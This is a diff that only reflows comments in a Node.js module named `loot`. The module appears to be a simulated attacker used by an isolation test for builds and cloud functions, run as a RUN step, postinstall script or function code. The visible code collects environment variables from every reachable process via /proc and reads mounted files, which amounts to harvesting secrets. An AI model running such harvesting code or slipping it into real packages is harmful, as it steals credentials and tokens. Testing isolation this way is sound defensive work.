@@ -1,6 +1,7 @@
 /**
- * What somebody would write who wants more from a build, or from a running function, than was given: reads whatever can be read from in here, asks
- * whomever can be asked, and returns it all. It runs as a RUN step, as a postinstall script, and as the code of a function.
+ * What somebody would write who wants more from a build, or from a running function, than was given: reads whatever can
+ * be read from in here, asks whomever can be asked, and returns it all. It runs as a RUN step, as a postinstall script,
+ * and as the code of a function.
  */
 import { readdirSync, readFileSync, statSync } from 'node:fs';
 import { request as http } from 'node:http';
@@ -8,7 +9,10 @@ import { request as https } from 'node:https';
 
 const SMALL = 8 * 1024;
 
-/** `targets`: [{ name, url, method?, headers? }], told by the test, since an attacker is taken to know every address and name. */
+/**
+ * `targets`: [{ name, url, method?, headers? }], told by the test, since an attacker is taken to know every address and
+ * name.
+ */
 export async function loot(targets) {
   const environments = environmentsOfProcesses();
   const files = mountedFiles();
@@ -30,7 +34,10 @@ export async function loot(targets) {
   };
 }
 
-/** Of every process that is to be seen: one's own ancestors, and those of other containers if they share the process namespace. */
+/**
+ * Of every process that is to be seen: one's own ancestors, and those of other containers if they share the process
+ * namespace.
+ */
 function environmentsOfProcesses() {
   const processes = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
   return Object.fromEntries(processes.map((pid) => [pid, read(`/proc/${pid}/environ`)?.split('\0').filter(Boolean)]));
